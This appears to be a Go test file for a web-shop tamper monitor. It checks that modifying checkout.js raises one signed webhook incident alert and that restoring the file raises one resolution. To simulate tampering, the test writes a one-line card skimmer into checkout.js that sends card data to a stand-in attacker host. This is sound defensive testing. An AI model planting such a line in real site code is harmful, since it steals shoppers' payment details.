package service

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/skimwatch/skimwatch/internal/alert"
	"github.com/skimwatch/skimwatch/internal/fim"
	"github.com/skimwatch/skimwatch/internal/monitor"
)

// webhookReceiver is a shop's alert endpoint on loopback: it verifies each
// delivery's signature and keeps the alerts that pass.
type webhookReceiver struct {
	t      *testing.T
	secret []byte
	mu     sync.Mutex
	got    []alert.Alert
	// at is when each alert in got arrived.
	at  []time.Time
	bad int
}

func (w *webhookReceiver) ServeHTTP(rw http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	err := alert.Verify(w.secret, r.Header.Get(alert.HeaderTimestamp), r.Header.Get(alert.HeaderSignature), body, time.Now(), 5*time.Minute)
	w.mu.Lock()
	defer w.mu.Unlock()
	if err != nil {
		w.bad++
		http.Error(rw, err.Error(), http.StatusUnauthorized)
		return
	}
	var a alert.Alert
	if err := json.Unmarshal(body, &a); err != nil {
		w.t.Errorf("alert body is not JSON: %v: %s", err, body)
	}
	w.got = append(w.got, a)
	w.at = append(w.at, time.Now())
}

// arrived is when the i-th alert arrived.
func (w *webhookReceiver) arrived(i int) time.Time {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.at[i]
}

func (w *webhookReceiver) types() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	var out []string
	for _, a := range w.got {
		out = append(out, a.Type)
	}
	return out
}

func (w *webhookReceiver) waitFor(t *testing.T, n int) []alert.Alert {
	t.Helper()
	return w.waitForWithin(t, n, 20*time.Second)
}

func (w *webhookReceiver) waitForWithin(t *testing.T, n int, d time.Duration) []alert.Alert {
	t.Helper()
	end := time.Now().Add(d)
	for time.Now().Before(end) {
		w.mu.Lock()
		if len(w.got) >= n {
			out := append([]alert.Alert(nil), w.got...)
			w.mu.Unlock()
			return out
		}
		w.mu.Unlock()
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("the webhook received %v, want %d alerts", w.types(), n)
	return nil
}

// TestServeAlertsOnceThroughASignedWebhook runs serve with the config's own
// webhook sink and no test alerter: a tampered web root raises exactly one
// signed incident alert, the runs after it add none, and restoring the file
// announces one resolution.
func TestServeAlertsOnceThroughASignedWebhook(t *testing.T) {
	dir := t.TempDir()
	root, base := webRoot(t, dir, "shop")
	recv := &webhookReceiver{t: t, secret: []byte("a-webhook-secret-of-the-shop")}
	hook := httptest.NewServer(recv)
	defer hook.Close()
	t.Setenv("SKIMWATCH_STORE", "")
	t.Setenv("TEST_WEBHOOK_SECRET", string(recv.secret))
	cfg := parse(t, fmt.Sprintf("data_dir: %s\nlisten: 127.0.0.1:0\nmetrics_listen: 127.0.0.1:0\n"+
		"sites:\n  - name: shop\n    web_roots:\n      - {path: %s, baseline: %s, every: 1s}\n"+
		"alerts:\n  - webhook: {url: %s, secret: {env: TEST_WEBHOOK_SECRET}}\n", dir, root, base, hook.URL))

	api, _ := startServe(t, cfg, Options{
		Monitor: monitor.Options{PollInterval: 50 * time.Millisecond},
		Alerts:  alert.Options{Window: -1, TickEvery: 100 * time.Millisecond},
	})
	token := apiToken(t, cfg)
	st := serveStore(t, dir)
	// runsOfRoot are the completed verifies of the root that began after
	// the i-th alert arrived, and saw the root dirty or clean.
	runsOfRoot := func(i int, dirty bool) func(monitor.Run) bool {
		after := recv.arrived(i)
		return func(r monitor.Run) bool {
			return r.Result.Detector == monitor.DetectorFim && r.Result.Target == root && r.Result.Complete &&
				r.Result.At.After(after) && (len(r.Result.Findings) > 0) == dirty
		}
	}

	clean := filepath.Join(root, "checkout.js")
	original, err := os.ReadFile(clean)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(clean, []byte("pay();fetch('https://evil.example/'+card)\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	got := recv.waitFor(t, 1)
	if got[0].Type != alert.TypeIncident || got[0].Site != "shop" || len(got[0].Items) != 1 || got[0].Items[0].Kind != fim.KindModified {
		t.Fatalf("first alert = %+v, want one incident on shop with %s", got[0], fim.KindModified)
	}

	// Five more dirty runs, each begun after the alert arrived, handed to
	// the alerter; then every alert they queued has been sent.
	waitRuns(t, api, token, "of the tampered root after the incident", 5, runsOfRoot(0, true))
	waitDrained(t, st)
	if types, queued := recv.types(), queuedAlerts(t, st); len(types) != 1 || len(queued) != 1 {
		t.Fatalf("after more runs of the same tamper the webhook has %v and the store queued %d alerts, want the one incident only", types, len(queued))
	}

	if err := os.WriteFile(clean, original, 0o644); err != nil {
		t.Fatal(err)
	}
	got = recv.waitFor(t, 2)
	if got[1].Type != alert.TypeResolved {
		t.Fatalf("second alert is %q, want %q", got[1].Type, alert.TypeResolved)
	}
	// Three more clean runs after the resolution arrived, and the queue
	// drained: a second resolution or a reopened incident would be here.
	waitRuns(t, api, token, "of the restored root after the resolution", 3, runsOfRoot(1, false))
	waitDrained(t, st)
	if types, queued := recv.types(), queuedAlerts(t, st); len(types) != 2 || len(queued) != 2 || recv.bad != 0 {
		t.Fatalf("the webhook has %v (%d with a bad signature) and the store queued %d alerts, want incident then resolved", types, recv.bad, len(queued))
	}
}
